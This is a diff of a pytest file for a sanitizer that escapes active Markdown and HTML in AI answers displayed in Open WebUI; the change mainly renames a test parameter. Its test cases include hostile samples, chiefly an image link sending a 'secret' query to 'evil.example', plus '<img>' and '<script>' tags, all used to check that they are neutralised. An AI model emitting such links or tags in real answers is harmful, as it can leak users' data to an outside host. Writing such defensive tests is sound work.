@@ -30,7 +30,7 @@ def sanitize_in_pieces(pieces: list[str], answer_format: AnswerFormat) -> str:
 
 @FORMATS
 @pytest.mark.parametrize(
-    ("said", "shown"),
+    ("answer", "shown"),
     [
         pytest.param(f"![chart]({EVIL})", "![chart]\u200b(https\\://evil.example/?q=secret)", id="image"),
         pytest.param("[the plan](//evil.example)", "[the plan]\u200b(/\\/evil.example)", id="link"),
@@ -99,15 +99,15 @@ def sanitize_in_pieces(pieces: list[str], answer_format: AnswerFormat) -> str:
         ),
     ],
 )
-def test_active_constructs_are_escaped(said: str, shown: str, answer_format: AnswerFormat) -> None:
-    assert sanitize(said, answer_format) == shown
-    assert sanitize_in_pieces(list(said), answer_format) == shown
+def test_active_constructs_are_escaped(answer: str, shown: str, answer_format: AnswerFormat) -> None:
+    assert sanitize(answer, answer_format) == shown
+    assert sanitize_in_pieces(list(answer), answer_format) == shown
     assert not find_active_markup(shown)
 
 
 @FORMATS
 @pytest.mark.parametrize(
-    ("said", "shown"),
+    ("answer", "shown"),
     [
         ("x\ud801(//e.x)", "x\ud801\u200b(/\\/e.x)"),
         ("\ud801](x)", "\ud801]\u200b(x)"),
@@ -118,15 +118,15 @@ def test_active_constructs_are_escaped(said: str, shown: str, answer_format: Ans
     ],
     ids=itertools.count(),
 )
-def test_a_citation_does_not_become_a_link(said: str, shown: str, answer_format: AnswerFormat) -> None:
-    assert sanitize(said, answer_format) == shown
-    assert sanitize_in_pieces(list(said), answer_format) == shown
+def test_a_citation_does_not_become_a_link(answer: str, shown: str, answer_format: AnswerFormat) -> None:
+    assert sanitize(answer, answer_format) == shown
+    assert sanitize_in_pieces(list(answer), answer_format) == shown
     assert not find_active_markup(shown.replace("\ud801", "[1]"))
 
 
 @FORMATS
 @pytest.mark.parametrize(
-    ("said", "shown"),
+    ("answer", "shown"),
     [
         ("\\( <b>", "\\( <\u200bb>"),
         ("\\[ <b>", "\\[ <\u200bb>"),
@@ -195,14 +195,14 @@ def test_a_citation_does_not_become_a_link(said: str, shown: str, answer_format:
     ids=itertools.count(),
 )
 def test_code_is_unchanged_only_if_no_construct_can_end_in_it(
-    said: str, shown: str, answer_format: AnswerFormat
+    answer: str, shown: str, answer_format: AnswerFormat
 ) -> None:
-    assert sanitize(said, answer_format) == shown
-    assert sanitize_in_pieces(list(said), answer_format) == shown
+    assert sanitize(answer, answer_format) == shown
+    assert sanitize_in_pieces(list(answer), answer_format) == shown
 
 
 @pytest.mark.parametrize(
-    ("said", "shown"),
+    ("answer", "shown"),
     [
         ("$x[1]$ and \\[ e[1] \\]", "$x[1]$ and \\[ e[1] \\]"),
         ("$`>`$x[1]", "$`>`$x[1\u200b]"),
@@ -237,9 +237,9 @@ def test_code_is_unchanged_only_if_no_construct_can_end_in_it(
     ],
     ids=itertools.count(),
 )
-def test_a_number_is_unchanged_only_in_a_formula(said: str, shown: str) -> None:
-    assert sanitize(said, MARKDOWN) == shown
-    assert sanitize_in_pieces(list(said), MARKDOWN) == shown
+def test_a_number_is_unchanged_only_in_a_formula(answer: str, shown: str) -> None:
+    assert sanitize(answer, MARKDOWN) == shown
+    assert sanitize_in_pieces(list(answer), MARKDOWN) == shown
 
 
 @pytest.mark.parametrize("begin", [">", "#", "|", "+", "*", "`", "~", "=", "-", "1.", "1)", ":::"])
@@ -254,12 +254,12 @@ def test_hostile_answers_are_safe_without_the_second_check(
     """The sanitizer leaves mail addresses unchanged in format ``text``, so the test removes them."""
     monkeypatch.setattr(OutputCheck, "feed", lambda _, text: text)
     for seed in range(500):
-        said = make_hostile_text(random.Random(seed)).replace("<m@e.x>", "")
-        assert not find_active_markup(sanitize(said, answer_format)), seed
+        answer = make_hostile_text(random.Random(seed)).replace("<m@e.x>", "")
+        assert not find_active_markup(sanitize(answer, answer_format)), seed
 
 
 @pytest.mark.parametrize(
-    ("said", "text", "markdown"),
+    ("answer", "text", "markdown"),
     [
         pytest.param(
             "~~~a|b\n|---|---|\n<b>", "~~~a|b\n|---|---|\n<\u200bb>", "```text\n|---|---|\n<b>\n```",
@@ -312,9 +312,11 @@ def test_hostile_answers_are_safe_without_the_second_check(
         pytest.param("```\n<script>", "```\n<script>", "```\n<script>\n```", id="fence-without-an-end"),
     ],
 )  # fmt: skip
-def test_all_fences_for_open_webui_are_backticks_without_nesting(said: str, text: str, markdown: str) -> None:
-    assert (sanitize(said, TEXT), sanitize(said, MARKDOWN)) == (text, markdown)
-    assert (sanitize_in_pieces(list(said), TEXT), sanitize_in_pieces(list(said), MARKDOWN)) == (
+def test_all_fences_for_open_webui_are_backticks_without_nesting(
+    answer: str, text: str, markdown: str
+) -> None:
+    assert (sanitize(answer, TEXT), sanitize(answer, MARKDOWN)) == (text, markdown)
+    assert (sanitize_in_pieces(list(answer), TEXT), sanitize_in_pieces(list(answer), MARKDOWN)) == (
         text,
         markdown,
     )
@@ -324,7 +326,7 @@ def test_all_fences_for_open_webui_are_backticks_without_nesting(said: str, text
 
 @FORMATS
 @pytest.mark.parametrize(
-    "said",
+    "answer",
     [
         "It is $5,000,000.",
         "  A.\n",
@@ -351,13 +353,13 @@ def test_all_fences_for_open_webui_are_backticks_without_nesting(said: str, text
         "- a\n\n  ```\n  x\n  ```\n\n`<b>`",
     ],
 )
-def test_inactive_text_is_unchanged(said: str, answer_format: AnswerFormat) -> None:
-    assert sanitize(said, answer_format) == said
-    assert sanitize_in_pieces(list(said), answer_format) == said
+def test_inactive_text_is_unchanged(answer: str, answer_format: AnswerFormat) -> None:
+    assert sanitize(answer, answer_format) == answer
+    assert sanitize_in_pieces(list(answer), answer_format) == answer
 
 
 @pytest.mark.parametrize(
-    ("said", "shown"),
+    ("answer", "shown"),
     [
         pytest.param("[1, 3] litres", "[1, 3\\] litres", id="range"),
         pytest.param('"ports": [7]', '"ports": [7\\]', id="list"),
@@ -430,9 +432,9 @@ def test_inactive_text_is_unchanged(said: str, answer_format: AnswerFormat) -> N
         pytest.param("Text\n```\nx\n```\n---\n", "Text\n```\nx\n```\n\n---\n", id="rule-that-would-be-one"),
     ],
 )
-def test_text_that_open_webui_would_not_display_verbatim_is_escaped(said: str, shown: str) -> None:
-    assert sanitize(said, MARKDOWN) == shown
-    assert sanitize_in_pieces(list(said), MARKDOWN) == shown
+def test_text_that_open_webui_would_not_display_verbatim_is_escaped(answer: str, shown: str) -> None:
+    assert sanitize(answer, MARKDOWN) == shown
+    assert sanitize_in_pieces(list(answer), MARKDOWN) == shown
     assert not find_active_markup(shown)
 
 
@@ -442,9 +444,11 @@ def test_text_that_open_webui_would_not_display_verbatim_is_escaped(said: str, s
 @pytest.mark.parametrize("sign", ["-", "==="])
 def test_a_fence_is_not_read_as_a_heading_while_streamed(sign: str, space: str) -> None:
     """Open WebUI strips spaces from the end of a partial answer, which then ends with the underline."""
-    said = f"Text\n```\n![x](//a.example)\n{sign}{space}\n\nx\n```"
+    answer = f"Text\n```\n![x](//a.example)\n{sign}{space}\n\nx\n```"
     assert (
-        sanitize_in_pieces(list(said), MARKDOWN) == sanitize(said, MARKDOWN) == said.replace("\n", "\n\n", 1)
+        sanitize_in_pieces(list(answer), MARKDOWN)
+        == sanitize(answer, MARKDOWN)
+        == answer.replace("\n", "\n\n", 1)
     )
 
 
@@ -455,10 +459,10 @@ def test_an_address_after_a_space_like_character_is_escaped(
     address: str, odd: str, answer_format: AnswerFormat
 ) -> None:
     """JavaScript and Python disagree about which characters are spaces."""
-    for said in (f"![x]({odd} {address})", f"[x]({address} {odd}'t')", f"[x]:{odd} {address}"):
-        shown = sanitize(said, answer_format)
+    for answer in (f"![x]({odd} {address})", f"[x]({address} {odd}'t')", f"[x]:{odd} {address}"):
+        shown = sanitize(answer, answer_format)
         assert re.search(r"\](?:[\\\u200b]+[(:]|\\?:\u200b)", shown), shown
-        assert sanitize_in_pieces(list(said), answer_format) == shown
+        assert sanitize_in_pieces(list(answer), answer_format) == shown
 
 
 @FORMATS
@@ -468,8 +472,8 @@ def test_an_address_after_a_space_like_character_is_escaped(
 def test_an_address_in_angle_brackets_with_a_control_is_escaped(
     odd: str, answer_format: AnswerFormat
 ) -> None:
-    for said in (f"<tel:12{odd}3>", f"<https://a.example{odd}>"):
-        assert re.search(r"(?:\\<|<\u200b)(?:tel|https)", sanitize(said, answer_format))
+    for answer in (f"<tel:12{odd}3>", f"<https://a.example{odd}>"):
+        assert re.search(r"(?:\\<|<\u200b)(?:tel|https)", sanitize(answer, answer_format))
 
 
 @FORMATS
@@ -518,14 +522,14 @@ def test_code_after_a_fence_requires_an_unambiguous_end(fence: str, *, is_seen_b
     ],
 )
 def test_no_preceding_character_hides_an_active_construct(before: str, answer_format: AnswerFormat) -> None:
-    for said in (f"{before}<img src=x>", f"x {before}<img src=x>", f"a\n\n{before}<img src=x>"):
-        shown = sanitize(said, answer_format)
+    for answer in (f"{before}<img src=x>", f"x {before}<img src=x>", f"a\n\n{before}<img src=x>"):
+        shown = sanitize(answer, answer_format)
         assert "<img" not in shown.replace("\\<img", "")
         assert not find_active_markup(shown)
 
 
 @pytest.mark.parametrize(
-    "said",
+    "answer",
     [
         "[1, 3] litres",
         '"ports": [7]',
@@ -537,8 +541,8 @@ def test_no_preceding_character_hides_an_active_construct(before: str, answer_fo
         "a@b.example",
     ],
 )
-def test_a_construct_is_unchanged_in_format_text(said: str) -> None:
-    assert sanitize(said, TEXT) == said
+def test_a_construct_is_unchanged_in_format_text(answer: str) -> None:
+    assert sanitize(answer, TEXT) == answer
 
 
 @pytest.mark.parametrize(
@@ -585,10 +589,10 @@ def test_no_active_construct_remains(pieces: list[str]) -> None:
 
 @given(PIECES)
 def test_only_escapes_and_invisible_characters_are_added(pieces: list[str]) -> None:
-    said = "".join(pieces)
-    shown = iter(sanitize(said, TEXT))
+    answer = "".join(pieces)
+    shown = iter(sanitize(answer, TEXT))
     added = []
-    for character in said:
+    for character in answer:
         while (emitted := next(shown)) != character:
             added.append(emitted)
     assert {*added, *shown} <= {"\\", INVISIBLE}
@@ -614,9 +618,9 @@ QUIET = st.lists(
 
 @given(QUIET, st.sampled_from([TEXT, MARKDOWN]))
 def test_text_without_active_constructs_is_unchanged(pieces: list[str], answer_format: AnswerFormat) -> None:
-    said = "".join(pieces)
-    assert sanitize(said, answer_format) == said
-    assert sanitize_in_pieces(list(said), answer_format) == said
+    answer = "".join(pieces)
+    assert sanitize(answer, answer_format) == answer
+    assert sanitize_in_pieces(list(answer), answer_format) == answer
 
 
 def test_text_is_emitted_as_soon_as_it_is_decided() -> None:
